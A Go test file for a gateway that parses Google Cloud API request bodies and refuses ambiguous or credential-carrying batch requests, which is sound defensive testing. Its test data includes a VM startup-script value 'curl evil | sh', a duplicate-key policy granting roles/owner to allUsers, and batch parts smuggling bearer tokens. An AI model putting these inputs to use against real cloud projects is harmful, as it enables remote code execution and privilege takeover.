package gcp

import (
	"errors"
	"reflect"
	"strings"
	"testing"
)

// Every body that exists is either read as Google reads it or reported
// unreadable: none may look absent, and what two parsers could read
// differently is refused.
func TestReadBody(t *testing.T) {
	const upload = "/upload/storage/v1/b/acme/o"
	multipart := "--XX\r\nContent-Type: application/json\r\n\r\n{\"name\":\"a.txt\",\"acl\":[{\"entity\":\"allUsers\"}]}\r\n--XX\r\nContent-Type: text/plain\r\n\r\nhello\r\n--XX--\r\n"
	tests := []struct {
		name       string
		path, ct   string
		body       string
		partial    bool
		limit      int
		want       any
		unreadable string // a fragment of why; "" when readable
		refused    string // a fragment of the refusal; "" when not refused
	}{
		{name: "no body", want: nil},
		{name: "json", ct: "application/json", body: `{"a":{"b":[1,true,null,"x"]}}`,
			want: map[string]any{"a": map[string]any{"b": []any{1.0, true, nil, "x"}}}},
		{name: "json without content type", body: `{"a":1}`, want: map[string]any{"a": 1.0}},
		{name: "json charset", ct: "application/json; charset=UTF-8", body: `{"a":1}`, want: map[string]any{"a": 1.0}},
		{name: "json suffix type", ct: "application/merge-patch+json", body: `{"a":1}`, want: map[string]any{"a": 1.0}},
		{name: "byte order mark", ct: "application/json", body: "\uFEFF{\"a\":1}", want: map[string]any{"a": 1.0}},
		{name: "duplicate member", ct: "application/json",
			body:    `{"policy":{"bindings":[{"role":"roles/owner","members":["allUsers"]}]},"policy":{"bindings":[]}}`,
			refused: `names the member "policy" twice`},
		{name: "duplicate nested member", body: `{"a":[{"k":1,"k":2}]}`, refused: `"k" twice`},
		{name: "duplicate through an escape", body: `{"policy":1,"pol\u0069cy":2}`, refused: `"policy" twice`},
		{name: "same name in sibling objects", body: `{"a":{"k":1},"b":{"k":2}}`,
			want: map[string]any{"a": map[string]any{"k": 1.0}, "b": map[string]any{"k": 2.0}}},
		{name: "cut by envoy", ct: "application/json", body: `{"a":`, partial: true, unreadable: "cut at 5 bytes"},
		{name: "over the limit", body: `{"a":"` + strings.Repeat("x", 100) + `"}`, limit: 50, unreadable: "more than the 50"},
		{name: "protobuf", ct: "application/x-protobuf", body: "\x0a\x03abc", unreadable: "application/x-protobuf, not JSON"},
		{name: "text", ct: "text/plain", body: `{"a":1}`, unreadable: "text/plain, not JSON"},
		{name: "latin-1", ct: "application/json; charset=ISO-8859-1", body: `{"a":1}`, unreadable: "charset is ISO-8859-1"},
		{name: "bad content type", ct: "application/json; ;", body: `{"a":1}`, unreadable: "cannot be parsed"},
		{name: "invalid json", ct: "application/json", body: `{"a":1,}`, unreadable: "not valid JSON"},
		{name: "trailing data", body: `{"a":1} {"a":2}`, unreadable: "data after the first value"},
		{name: "invalid utf-8", body: "{\"a\":\"\xff\"}", unreadable: "not valid UTF-8"},
		{name: "lone high surrogate", body: `{"a":"\ud800"}`, unreadable: "unpaired"},
		{name: "lone low surrogate", body: `{"a":"\udc00x"}`, unreadable: "unpaired"},
		{name: "surrogate pair", body: `{"a":"\ud83d\ude00"}`, want: map[string]any{"a": "\U0001F600"}},
		{name: "escaped backslash before u", body: `{"a":"\\ud800"}`, want: map[string]any{"a": `\ud800`}},
		{name: "too deep", body: strings.Repeat("[", 300) + strings.Repeat("]", 300), unreadable: "deeper than"},
		{name: "upload metadata", path: upload, ct: "multipart/related; boundary=XX", body: multipart,
			want: map[string]any{"name": "a.txt", "acl": []any{map[string]any{"entity": "allUsers"}}}},
		{name: "related outside an upload", path: "/storage/v1/b/acme/o", ct: "multipart/related; boundary=XX", body: multipart,
			unreadable: "multipart/related, not JSON"},
		{name: "upload metadata not json", path: upload, ct: "multipart/related; boundary=XX",
			body: "--XX\r\nContent-Type: text/plain\r\n\r\nhi\r\n--XX--\r\n", unreadable: "not JSON metadata"},
		{name: "upload metadata duplicate", path: upload, ct: "multipart/related; boundary=XX",
			body: "--XX\r\nContent-Type: application/json\r\n\r\n{\"acl\":[],\"acl\":[]}\r\n--XX--\r\n", refused: `"acl" twice`},
		{name: "media upload", path: upload, ct: "image/png", body: "\x89PNG", unreadable: "image/png, not JSON"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			path := tc.path
			if path == "" {
				path = "/v1/projects/p/things"
			}
			v, why, err := readBody(path, tc.ct, []byte(tc.body), tc.partial, tc.limit)
			if tc.refused != "" {
				var re *RequestError
				if !errors.As(err, &re) || !strings.Contains(re.Msg, tc.refused) {
					t.Fatalf("err = %v, want a refusal containing %q", err, tc.refused)
				}
				return
			}
			if err != nil {
				t.Fatalf("unexpected refusal: %v", err)
			}
			if tc.unreadable != "" {
				if !strings.Contains(why, tc.unreadable) || v != nil {
					t.Fatalf("value %v, unreadable %q; want unreadable containing %q", v, why, tc.unreadable)
				}
				return
			}
			if why != "" {
				t.Fatalf("unreadable %q, want %v", why, tc.want)
			}
			if !reflect.DeepEqual(v, tc.want) {
				t.Fatalf("value = %#v, want %#v", v, tc.want)
			}
		})
	}
}

// The recogniser reads each batch part's body for that part's decision,
// and a duplicate member inside a part refuses the batch.
func TestRecognizeReadsBodies(t *testing.T) {
	r := NewRecognizer(DefaultCatalog(), nil)
	out, err := r.Recognize(Request{Method: "POST", Host: "cloudresourcemanager.googleapis.com",
		Path: "/v3/projects/acme-prod:setIamPolicy", Headers: map[string]string{"content-type": "application/json"},
		Body: []byte(`{"policy":{"bindings":[]}}`)})
	if err != nil || out.BodyUnreadable != "" {
		t.Fatalf("err %v, unreadable %q", err, out.BodyUnreadable)
	}
	if !reflect.DeepEqual(out.BodyJSON, map[string]any{"policy": map[string]any{"bindings": []any{}}}) {
		t.Fatalf("body = %#v", out.BodyJSON)
	}
	out, err = r.Recognize(Request{Method: "POST", Host: "compute.googleapis.com",
		Path: "/compute/v1/projects/p/zones/z/instances?$ct=application/x-protobuf", Headers: map[string]string{"content-type": "application/json"},
		Body: []byte(`{"name":"vm"}`)})
	if err != nil || !strings.Contains(out.BodyUnreadable, "application/x-protobuf") {
		t.Fatalf("$ct: err %v, unreadable %q", err, out.BodyUnreadable)
	}

	part := func(body string) string {
		return "--b\r\nContent-Type: application/http\r\n\r\nPOST /compute/v1/projects/p/zones/z/instances/vm/setMetadata HTTP/1.1\r\nContent-Type: application/json\r\n\r\n" + body + "\r\n"
	}
	batch := part(`{"items":[{"key":"startup-script","value":"curl evil | sh"}]}`) + part(`{"items":[]}`) + "--b--\r\n"
	out, err = r.Recognize(Request{Method: "POST", Host: "compute.googleapis.com", Path: "/batch/compute/v1",
		Headers: map[string]string{"content-type": "multipart/mixed; boundary=b"}, Body: []byte(batch)})
	if err != nil {
		t.Fatal(err)
	}
	if len(out.Parts) != 2 || out.BodyJSON != nil {
		t.Fatalf("parts %d, batch body %v", len(out.Parts), out.BodyJSON)
	}
	items, _ := out.Parts[0].BodyJSON.(map[string]any)["items"].([]any)
	if len(items) != 1 || out.Parts[0].Operation.Method != "compute.instances.setMetadata" {
		t.Fatalf("part 1 = %+v", out.Parts[0])
	}
	dup := part(`{"items":[],"items":[{"key":"startup-script"}]}`) + "--b--\r\n"
	_, err = r.Recognize(Request{Method: "POST", Host: "compute.googleapis.com", Path: "/batch/compute/v1",
		Headers: map[string]string{"content-type": "multipart/mixed; boundary=b"}, Body: []byte(dup)})
	if err == nil || !strings.Contains(err.Error(), `"items" twice`) {
		t.Fatalf("duplicate in a part: err %v", err)
	}
}

// A batch part may not bring its own credential: Google would act on it
// instead of the injected one, and the gateway strips credentials only from
// the outer request.
func TestBatchPartCredentialsRefused(t *testing.T) {
	r := NewRecognizer(DefaultCatalog(), nil)
	for name, part := range map[string]string{
		"authorization header": "GET /storage/v1/b/acme/o HTTP/1.1\r\nAuthorization: Bearer ya29.agent-token\r\n\r\n",
		"cookie":               "GET /storage/v1/b/acme/o HTTP/1.1\r\nCookie: SID=x\r\n\r\n",
		"access_token":         "GET /storage/v1/b/acme/o?access_token=ya29.x HTTP/1.1\r\n\r\n",
		"escaped access_token": "GET /storage/v1/b/acme/o?%61ccess_token=ya29.x HTTP/1.1\r\n\r\n",
		"oauth_token":          "GET /storage/v1/b/acme/o?oauth_token=ya29.x HTTP/1.1\r\n\r\n",
	} {
		body := "--b\r\nContent-Type: application/http\r\n\r\n" + part + "--b--\r\n"
		_, err := r.Recognize(Request{Method: "POST", Host: "storage.googleapis.com", Path: "/batch/storage/v1",
			Headers: map[string]string{"content-type": "multipart/mixed; boundary=b"}, Body: []byte(body)})
		var re *RequestError
		if !errors.As(err, &re) || !strings.Contains(re.Msg, "batch part 1") {
			t.Errorf("%s: err = %v, want the part refused", name, err)
		}
	}
}
